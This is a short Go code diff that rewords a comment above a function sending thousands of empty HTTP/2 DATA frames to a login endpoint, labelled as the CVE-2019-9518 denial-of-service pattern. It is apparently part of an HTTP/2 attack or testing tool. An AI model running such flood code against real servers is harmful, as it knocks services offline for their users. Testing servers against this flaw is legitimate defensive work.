@@ -115,7 +115,7 @@ func unreadAnswers(a *assault) {
 	})
 }
 
-// emptyData sends a body of many frames that hold nothing (CVE-2019-9518).
+// emptyData sends a body of many empty frames (CVE-2019-9518).
 func emptyData(h *http2Conn) error {
 	stream, err := h.request(true, h.encode("POST", "/accounts/login", "content-type", "application/json"))
 	for n := 0; err == nil && n < 10_000; n++ {
